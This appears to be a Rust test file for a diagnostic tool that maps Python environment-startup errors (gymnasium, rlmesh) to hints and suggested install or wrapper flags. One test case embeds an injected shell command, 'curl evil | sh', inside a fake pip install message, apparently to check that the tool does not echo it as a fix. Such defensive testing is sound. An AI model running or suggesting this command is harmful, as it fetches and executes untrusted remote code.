//! Failures that are known by one line of the log.

use super::*;

/// The lines are those that Python, rlmesh 0.1.0 and gymnasium 1.4.0 printed.
#[test]
fn a_known_failure_leads_on() {
    for (env_id, line, hint, changes) in [
        (
            "CartPol-v1",
            "gymnasium.error.NameNotFound: Environment `CartPol` doesn't exist. Did you mean: `CartPole`?",
            "did you mean CartPole-v1?",
            "CartPole-v1",
        ),
        // A real id of another package.
        (
            "HalfCheetahFoo-v0",
            "gymnasium.error.NameNotFound: Environment `HalfCheetahFoo` doesn't exist. Did you mean: `HalfCheetah`?",
            "check the environment id",
            "",
        ),
        (
            "ALE/Pong-v5",
            "gymnasium.error.NamespaceNotFound: Namespace ALE not found. Have you installed the proper package for ALE?",
            "this environment is part of another package",
            "-p ale-py -i ale_py",
        ),
        (
            "PandaReach-v2",
            "gymnasium.error.NameNotFound: Environment `PandaReach` doesn't exist.",
            "PandaReach-v3",
            "PandaReach-v3",
        ),
        (
            "procgen-coinrun-v0",
            "gymnasium.error.NameNotFound: Environment `procgen-coinrun` doesn't exist.",
            "this environment cannot be served: procgen",
            "",
        ),
        (
            "CartPole-v7",
            "gymnasium.error.VersionNotFound: Environment version `v7` for environment `CartPole` doesn't exist. It provides versioned environments: [ `v0`, `v1` ].",
            "its newest version is CartPole-v1",
            "CartPole-v1",
        ),
        (
            "Taxi-v3",
            "gymnasium.error.DeprecatedEnv: Environment version v3 for `Taxi` is deprecated. Please use `Taxi-v4` instead.",
            "Taxi-v4",
            "Taxi-v4",
        ),
        (
            "LunarLander-v3",
            "gymnasium.error.DependencyNotInstalled: Box2D is not installed, you can install it by run `pip install swig` followed by `pip install \"gymnasium[box2d]\"`",
            "the environment needs gymnasium[box2d]",
            "-p 'gymnasium[box2d]'",
        ),
        (
            "X-v0",
            "gymnasium.error.DependencyNotInstalled: x is not installed, run `pip install \"a'; curl evil | sh; 'b\"`",
            "an error of the environment's own code",
            "",
        ),
        (
            "X-v0",
            "ModuleNotFoundError: No module named 'cv2'",
            "the image lacks the module cv2",
            "-p opencv-python-headless",
        ),
        (
            "X-v0",
            "ModuleNotFoundError: No module named 'pkg_resources'",
            "pkg_resources",
            "-p 'setuptools<81'",
        ),
        ("X-v0", "ModuleNotFoundError: No module named 'gym_pusht'", "gym_pusht", "-p gym-pusht"),
        (
            "X-v0",
            "ModuleNotFoundError: No module named 'some_thing'",
            "if the package has the same name",
            "-p some-thing",
        ),
        (
            "X-v0",
            "ModuleNotFoundError: No module named 'gymnasium.envs.atari'",
            "the installed gymnasium has no module",
            "",
        ),
        ("X-v0", "ModuleNotFoundError: No module named '_tkinter'", "python3-tk", ""),
        (
            "X-v0",
            "ImportError: libGL.so.1: cannot open shared object file: No such file or directory",
            "lacks the system library libGL.so.1",
            "--apt libgl1",
        ),
        (
            "X-v0",
            "ImportError: libEGL.so.1: cannot open shared object file: No such file or directory",
            "libEGL.so.1",
            "--apt libegl1 --apt libgl1",
        ),
        (
            "X-v0",
            "ImportError: libcuda.so.1: cannot open shared object file: No such file or directory",
            "part of the GPU driver",
            "",
        ),
        (
            "X-v0",
            "OSError: libcudart.so.12: cannot open shared object file: No such file or directory",
            "part of CUDA",
            "",
        ),
        (
            "X-v0",
            "ImportError: libweird.so.7: cannot open shared object file: No such file or directory",
            "contains libweird.so.7",
            "",
        ),
        ("X-v0", "ImportError: Library \"GL\" not found", "libGL.so.1", "--apt libgl1"),
        (
            "X-v0",
            "AttributeError: 'NoneType' object has no attribute 'eglQueryString'",
            "draws with OpenGL",
            "--apt libegl1 --apt libgl1 -e MUJOCO_GL=egl",
        ),
        (
            "X-v0",
            "mujoco.FatalError: an OpenGL platform library has not been loaded into this process",
            "draws with OpenGL",
            "--apt libegl1 --apt libgl1 -e MUJOCO_GL=egl",
        ),
        (
            "X-v0",
            "TypeError: Unsupported space type: MissionSpace",
            "mission",
            "--wrap minigrid.wrappers:ImgObsWrapper",
        ),
        ("X-v0", "TypeError: Unsupported space type: Sequence", "rlmesh serves Box", ""),
        ("X-v0", "TypeError: Unsupported space type: Box", "OpenAI's gym", ""),
        (
            "X-v0",
            "TypeError: Old.reset() got an unexpected keyword argument 'seed'",
            "the interface of gym before 0.26",
            "",
        ),
        (
            "X-v0",
            "ValueError: not enough values to unpack (expected 5, got 4)",
            "the interface of gym before 0.26",
            "",
        ),
        (
            "X-v0",
            "ValueError: assignment destination is read-only",
            "writes to the action",
            "--wrap rlmesh_sandbox.wrappers:CopyAction",
        ),
        (
            "X-v0",
            "TypeError: value of type 'object' is not supported in RLMesh metadata; pass the dict through rlmesh.sanitize_metadata(...)",
            "info",
            "--wrap rlmesh_sandbox.wrappers:NoInfo",
        ),
        (
            "X-v0",
            "TypeError: CartPoleEnv.__init__() got an unexpected keyword argument 'foo'",
            "check the names given with -k",
            "",
        ),
        (
            "X-v0",
            "TypeError: f() missing 1 required positional argument: 'x'",
            "pass the missing argument with -k",
            "",
        ),
        (
            "CartPole-v1",
            "RuntimeError: --wrap gymnasium.wrappers:TimeLimit failed: TypeError: TimeLimit.__init__() missing 1 required positional argument: 'max_episode_steps'",
            "--wrap only passes the environment",
            "",
        ),
        (
            "X-v0",
            "pygame.error: No available video device",
            "a container has no display",
            "-e SDL_VIDEODRIVER=dummy",
        ),
        ("X-v0", "EOFError: EOF when reading a line", "asks for input", ""),
        ("X-v0", "OSError: [Errno 30] Read-only file system: '/opt/x'", "read-only", ""),
        ("X-v0", "OSError: [Errno 98] Address already in use", "opens a port", ""),
        (
            "X-v0",
            "urllib.error.URLError: <urlopen error [Errno -3] Temporary failure in name resolution>",
            "downloads something",
            "",
        ),
        (
            "X-v0",
            "FileNotFoundError: [Errno 2] No such file or directory: 'ffmpeg'",
            "the program ffmpeg",
            "--apt ffmpeg",
        ),
        (
            "X-v0",
            "RuntimeError: DataLoader worker is killed by signal: Bus error. It is possible that dataloader's workers are out of shared memory",
            "/dev/shm",
            "--shm-size 1g",
        ),
        ("X-v0", "AttributeError: module 'numpy' has no attribute 'float'", "--as-of YYYY-MM-DD", ""),
        ("X-v0", "thing.LicenseMissing: no license", "an error of the environment's own code", ""),
        ("X-v0", "SyntaxError: invalid syntax", "Python cannot read this file", ""),
        ("X-v0", "TypeError: hf env mapping must be a mapping", "make_env in env.py must return an", ""),
        (
            "X-v0",
            "RuntimeError: module 'x' must define make_env(...)",
            "env.py needs a function make_env",
            "",
        ),
    ] {
        let diagnosis = startup(&plan(env_id), DEAD, &traceback(line), &Facts::default());
        assert_eq!(diagnosis.cause.as_deref(), Some(line.trim_end_matches('.')), "{line}");
        assert!(diagnosis.hints[0].contains(hint), "{line}: {diagnosis:?}");
        assert_eq!(words(&diagnosis), changes, "{line}");
        assert_eq!(diagnosis.hints.len(), 1, "{line}");
    }
}

#[test]
fn several_rewards_are_added_up() {
    let line = "2026-11-25T04:48:43Z ERROR env step failed error=[Internal] step failed: TypeError: only 0-dimensional arrays can be converted to Python scalars";
    let mut plan = plan("X-v0");
    let diagnosis = startup(&plan, DEAD, line, &Facts::default());
    assert_eq!(words(&diagnosis), "--wrap rlmesh_sandbox.wrappers:SumReward");
    spec(&mut plan).packages = vec!["mo-gymnasium".to_owned()];
    let diagnosis = startup(&plan, DEAD, line, &Facts::default());
    assert_eq!(words(&diagnosis), "--wrap mo_gymnasium.wrappers:LinearReward");
}
